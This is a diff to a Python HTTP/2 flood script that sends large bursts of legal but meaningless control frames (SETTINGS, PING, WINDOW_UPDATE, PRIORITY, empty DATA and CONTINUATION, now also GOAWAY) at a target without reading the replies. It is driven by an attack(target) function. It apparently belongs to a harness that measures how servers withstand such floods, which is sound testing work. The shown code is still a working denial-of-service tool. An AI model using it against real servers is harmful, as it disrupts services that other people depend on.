@@ -1,10 +1,10 @@
 """Frames that are legal and mean nothing, as fast as possible and without reading the answers: SETTINGS, PING,
-WINDOW_UPDATE, PRIORITY, empty DATA and CONTINUATION."""
+WINDOW_UPDATE, PRIORITY, GOAWAY, empty DATA and CONTINUATION."""
 
 from flood import Flood
 from harness import CLASSIFY, MIB, Outcome, run
-from http2 import CONTINUATION, DATA, END_HEADERS, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, frame, header_block
-from http2 import settings, window_update
+from http2 import CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, frame
+from http2 import header_block, settings, window_update
 
 
 def open_stream(connection):
@@ -23,6 +23,7 @@ FORMS = {
     "WINDOW_UPDATE": (open_stream, lambda c: window_update(c.stream, 1) * 500),
     "WINDOW_UPDATE by 0": (open_stream, lambda c: window_update(c.stream, 0) * 500),
     "PRIORITY": (open_stream, lambda c: frame(PRIORITY, 0, c.stream, b"\0\0\0\0\x10") * 500),
+    "GOAWAY": (open_stream, lambda c: frame(GOAWAY, 0, 0, b"\0" * 8) * 500),
     "empty DATA": (open_stream, lambda c: frame(DATA, 0, c.stream) * 500),
     "empty CONTINUATION": (open_headers, lambda c: frame(CONTINUATION, 0, c.stream) * 500),
 }
@@ -48,4 +49,4 @@ def attack(target):
 
 
 if __name__ == "__main__":
-    run("control frames", attack, seconds=4)
+    run("control frames", attack, seconds=4.5)
